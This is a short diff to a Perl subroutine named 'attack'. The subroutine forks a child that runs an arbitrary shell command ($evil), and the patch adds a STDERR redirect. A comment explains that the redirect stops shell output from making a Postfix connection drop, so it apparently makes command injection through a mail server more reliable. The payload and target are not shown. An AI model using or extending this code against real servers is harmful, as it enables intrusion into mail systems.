@@ -26,7 +26,9 @@ sub attack {
     my $child = fork;
     if ($child == 0) {
         open STDIN, '<', '/dev/null';
+        # All three are the connection: one word of the shell's in it, and Postfix hangs up.
         open STDOUT, '>', '/dev/null';
+        open STDERR, '>', '/dev/null';
         exec '/bin/sh', '-c', $evil, 'sh', $name;
         exit 1;
     }
